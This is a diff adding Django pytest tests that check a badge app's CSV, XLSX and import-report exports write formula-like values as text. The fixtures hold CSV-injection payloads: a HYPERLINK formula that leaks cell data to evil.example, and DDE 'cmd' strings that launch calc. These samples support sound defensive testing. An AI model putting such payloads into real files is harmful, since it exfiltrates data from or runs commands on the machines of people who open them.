@@ -1,0 +1,71 @@
+"""Exports never hand a spreadsheet a live formula (issue 12): a badge class, an issuer or an
+import error that starts with "=", "+", "-" or "@" is written as text in the CSV and the XLSX."""
+
+import csv
+import io
+
+import pytest
+from django.urls import reverse
+from django.utils import timezone
+from openpyxl import load_workbook
+
+from badges.models import Assertion, BadgeClassVersion, PixImport
+from cotraining.constants import Role
+from cotraining.services import grant_role
+from tests.badges.conftest import make_badge_class
+from tests.factories import EstablishmentFactory, UserFactory, academie
+
+BADGE = '=HYPERLINK("https://evil.example/?d="&A1;"Voir")'
+ISSUER = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+@pytest.fixture
+def reader_client(client, issuer):
+    issuer.name = ISSUER
+    issuer.save()
+    badge_class = make_badge_class(issuer, name=BADGE)
+    version = BadgeClassVersion.objects.create(badge_class=badge_class, number=1, document={})
+    holder = UserFactory(establishment=EstablishmentFactory())  # in Poitiers
+    Assertion.objects.create(
+        badge_class=badge_class, version=version, recipient=holder,
+        recipient_email=holder.email, source=f"manual:{holder.pk}", issued_on=timezone.now(),
+    )  # fmt: skip
+    reader = UserFactory()
+    grant_role(user=reader, role=Role.INDICATOR_READER, academie=academie("13"))
+    client.force_login(reader)
+    return client
+
+
+def test_indicator_csv_writes_a_formula_like_name_as_text(reader_client):
+    response = reader_client.get("/indicateurs/export/badges-par-badge.csv")
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    row = next(row for row in rows if BADGE in row[0])
+    assert row[:2] == ["'" + BADGE, "'" + ISSUER]
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+
+
+def test_indicator_workbook_has_no_formula_cell(reader_client):
+    response = reader_client.get("/indicateurs/export.xlsx")
+    book = load_workbook(io.BytesIO(response.content))
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    assert all(cell.data_type != "f" for cell in cells)
+    named = next(cell for cell in cells if cell.value == BADGE)
+    assert named.data_type == "s" and named.quotePrefix
+    row = next(r for r in book["badges-par-badge"].iter_rows() if r[0].value == BADGE)
+    assert row[1].value == ISSUER and row[1].data_type == "s"
+    assert isinstance(row[3].value, int)  # numbers stay numbers
+
+
+def test_pix_import_report_writes_errors_as_text(db, client):
+    coordinator = UserFactory()
+    grant_role(user=coordinator, role=Role.COORDINATOR, academie=academie("13"))
+    pix_import = PixImport.objects.create(
+        filename="pix.csv", status=PixImport.Status.REJECTED, user=coordinator, error_count=2,
+        errors=[[2, "=1+2"], [3, "-2+3+cmd|' /C calc'!A0"]],
+    )  # fmt: skip
+    client.force_login(coordinator)
+
+    response = client.get(reverse("badges:pix_import_report", args=[pix_import.pk]))
+
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    assert rows[1:] == [["2", "'=1+2"], ["3", "'-2+3+cmd|' /C calc'!A0"]]
